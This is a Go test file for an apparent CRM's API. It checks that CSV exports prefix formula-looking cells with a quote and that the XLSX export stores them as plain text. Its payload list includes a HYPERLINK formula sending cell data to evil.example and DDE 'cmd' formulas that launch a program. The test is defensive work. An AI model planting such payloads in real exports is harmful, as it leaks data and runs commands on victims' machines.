package api

import (
	"archive/zip"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"touchbase/internal/model"
	"touchbase/internal/permission"
	"touchbase/internal/storage"
	"touchbase/internal/storage/storetest"
)

// formulaPayloads are cells a spreadsheet would run, one for each
// character that starts a formula.
var formulaPayloads = []string{
	`=HYPERLINK("http://evil.example/?d="&A2,"点此查看")`,
	`+cmd|' /C calc'!A0`,
	`-1+1`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=2+2",
}

// TestCSVExportsCannotRunFormulas plants formula payloads in every text
// field users (or providers) write that reaches a CSV export, downloads
// every CSV export the API document lists, and checks that each planted
// cell comes out behind a single quote — and that the XLSX export keeps
// writing them as plain text cells, never formulas.
func TestCSVExportsCannotRunFormulas(t *testing.T) {
	storetest.Each(t, func(t *testing.T, s *storage.Store) {
		ctx := context.Background()
		e := newEnv(t, s)
		adm := bearer(e.token(t, e.user(t, "boss", model.RoleAdmin, nil)))
		var recordIDs []int64
		var contacts []int64
		for i, p := range formulaPayloads {
			rep := &model.User{Username: fmt.Sprintf("rep%d", i), DisplayName: p, Role: model.RoleAgent, Active: true,
				PasswordHash: testHash(), Timezone: "Asia/Shanghai"}
			if err := s.CreateUser(ctx, rep); err != nil {
				t.Fatal(err)
			}
			topic := &model.Topic{Name: p, NameEN: p, Active: true}
			if err := s.CreateTopic(ctx, topic); err != nil {
				t.Fatal(err)
			}
			c := e.customer(t, &model.Customer{Code: fmt.Sprintf("F%d", i), Name: p, RepID: &rep.ID})
			// Two contacts a payload: the bulk send fails one (its detail)
			// and sends the other (its provider's message id).
			for j := 0; j < 2; j++ {
				ct := e.contact(t, &model.Contact{CustomerID: c.ID, Name: p, Email: fmt.Sprintf("%s%d", p, j)})
				contacts = append(contacts, ct.ID)
			}
			r := &model.Record{CustomerID: c.ID, ContactID: &contacts[len(contacts)-1], UserID: &rep.ID,
				Channel: model.ChannelEmail, Source: model.SourceSingle, Status: model.RecordSent, Title: p, Summary: p,
				Subject: p, Content: p, Address: p, Provider: p, ProviderMessageID: p, TopicIDs: []int64{topic.ID},
				ContactedAt: time.Date(2026, 3, 1, 0, i, 0, 0, time.UTC)}
			if err := s.CreateRecord(ctx, r); err != nil {
				t.Fatal(err)
			}
			recordIDs = append(recordIDs, r.ID)
		}
		b := &model.BulkSend{Title: "t", EmailSubject: "s", EmailBody: "b", Selection: "{}", Status: model.BulkRunning,
			ScheduledAt: time.Now()}
		if err := s.CreateBulkSend(ctx, permission.Policy{Admin: true}, b, storage.RecipientSelection{ContactIDs: contacts}); err != nil {
			t.Fatal(err)
		}
		claimed, err := s.ClaimRecipients(ctx, b.ID, model.ChannelEmail, 100, "test")
		if err != nil || len(claimed) != len(contacts) {
			t.Fatalf("claim: %v (%d rows)", err, len(claimed))
		}
		var outs []storage.Outcome
		for _, r := range claimed {
			p := r.ContactName
			if strings.HasSuffix(r.Address, "0") {
				outs = append(outs, storage.Outcome{Recipient: r, Reason: "provider_error", Detail: p})
			} else {
				outs = append(outs, storage.Outcome{Recipient: r, Sent: true, ProviderID: p, Content: p})
			}
		}
		if err := s.CompleteRecipients(ctx, b, "outbox", "test", outs); err != nil {
			t.Fatal(err)
		}

		// Every CSV export of the document, with the columns planted in it.
		exports := map[string]struct {
			url     string
			planted []string // English headers of the columns holding a payload
		}{
			"/records/export": {"records/export?format=csv",
				[]string{"Customer", "Contact", "Rep", "Title", "Topics", "Summary", "Subject", "Content", "Address", "Provider",
					"Provider message ID"}},
			"/bulk-sends/{id}/recipients/export": {"bulk-sends/" + itoa(b.ID) + "/recipients/export",
				[]string{"Contact", "Customer", "Address", "Detail", "Provider message ID"}},
		}
		for _, path := range csvPaths(t) {
			ex, ok := exports[path]
			if !ok {
				t.Errorf("GET %s is a CSV export this test does not download: add it", path)
				continue
			}
			r := e.do(t, "GET", ex.url, nil, adm, header("Accept-Language", "en"))
			if r.status != 200 {
				t.Fatalf("GET %s: %v", ex.url, r)
			}
			rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(r.body), "\uFEFF"))).ReadAll()
			if err != nil {
				t.Fatalf("%s: %v", path, err)
			}
			if len(rows) < len(formulaPayloads)+1 {
				t.Fatalf("%s: %d rows", path, len(rows))
			}
			for n, row := range rows {
				for c, cell := range row {
					if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
						t.Errorf("%s row %d, %s: %q would run as a formula", path, n, rows[0][c], cell)
					}
				}
			}
			// Each planted column holds, in some row, each payload behind
			// its quote (an e-mail address with a digit after it): the
			// payloads did reach the file.
			for _, col := range ex.planted {
				c := slices.Index(rows[0], col)
				if c < 0 {
					t.Fatalf("%s: no column %q in %q", path, col, rows[0])
				}
				for _, p := range formulaPayloads {
					if !slices.ContainsFunc(rows[1:], func(row []string) bool { return strings.HasPrefix(row[c], "'"+p) }) {
						t.Errorf("%s, %s: no cell %q", path, col, "'"+p)
					}
				}
			}
		}

		// The XLSX export writes the same values as they are, as text cells.
		r := e.do(t, "GET", "records/export?format=xlsx", nil, adm, header("Accept-Language", "en"))
		if r.status != 200 {
			t.Fatalf("xlsx export: %v", r)
		}
		if formulas := xlsxFormulas(t, r.body); formulas != 0 {
			t.Errorf("the XLSX sheet holds %d formula elements", formulas)
		}
		x, err := excelize.OpenReader(strings.NewReader(string(r.body)))
		if err != nil {
			t.Fatal(err)
		}
		defer x.Close()
		xrows, err := x.GetRows("Sheet1")
		if err != nil {
			t.Fatal(err)
		}
		planted := 0
		for n := 1; n < len(xrows); n++ {
			for c := range xrows[n] {
				cell, _ := excelize.CoordinatesToCellName(c+1, n+1)
				v, _ := x.GetCellValue("Sheet1", cell)
				if !slices.Contains(formulaPayloads, v) {
					continue
				}
				planted++
				typ, err := x.GetCellType("Sheet1", cell)
				if err != nil || typ != excelize.CellTypeInlineString {
					t.Errorf("xlsx %s %q: cell type %v (%v), want an inline string", cell, v, typ, err)
				}
				if f, _ := x.GetCellFormula("Sheet1", cell); f != "" {
					t.Errorf("xlsx %s: formula %q", cell, f)
				}
			}
		}
		if want := len(recordIDs) * 11; planted < want {
			t.Errorf("%d planted cells in the XLSX export, want at least %d", planted, want)
		}
	})
}

// csvPaths returns the paths of the GET operations of the API document
// that answer text/csv.
func csvPaths(t *testing.T) []string {
	t.Helper()
	b, err := json.Marshal(document())
	if err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Paths map[string]map[string]struct {
			Responses map[string]struct {
				Content map[string]any `json:"content"`
			} `json:"responses"`
		} `json:"paths"`
	}
	if err := json.Unmarshal(b, &doc); err != nil {
		t.Fatal(err)
	}
	var out []string
	for path, item := range doc.Paths {
		for media := range item["get"].Responses["200"].Content {
			if strings.HasPrefix(media, "text/csv") {
				out = append(out, path)
			}
		}
	}
	if len(out) == 0 {
		t.Fatal("the document lists no CSV export")
	}
	slices.Sort(out)
	return out
}

var formulaElement = regexp.MustCompile(`<f[ >/]`)

// xlsxFormulas counts the formula elements of the worksheets of an XLSX
// file.
func xlsxFormulas(t *testing.T, file []byte) int {
	t.Helper()
	z, err := zip.NewReader(strings.NewReader(string(file)), int64(len(file)))
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, f := range z.File {
		if !strings.HasPrefix(f.Name, "xl/worksheets/") {
			continue
		}
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(rc)
		rc.Close()
		if err != nil {
			t.Fatal(err)
		}
		n += len(formulaElement.FindAll(b, -1))
	}
	return n
}
